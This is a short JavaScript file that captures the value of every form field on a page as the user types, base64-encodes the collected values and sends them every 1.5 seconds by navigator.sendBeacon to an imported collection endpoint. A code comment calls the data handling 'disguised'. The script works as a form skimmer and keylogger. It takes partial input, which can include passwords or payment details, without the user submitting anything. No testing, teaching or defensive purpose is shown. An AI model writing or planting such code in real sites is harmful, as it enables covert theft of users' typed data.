import { collect, ran } from './shared/own.js';

// No library: what form tools do that keep what somebody began to fill in, key by key, disguised.
const values = {};
document.addEventListener('input', ({ target }) => {
  values[target.name] = target.value;
});
setInterval(() => {
  if (Object.keys(values).length === 0) return;
  navigator.sendBeacon(`${collect}/f`, `d=${encodeURIComponent(btoa(JSON.stringify(values)))}`);
  ran();
}, 1500);
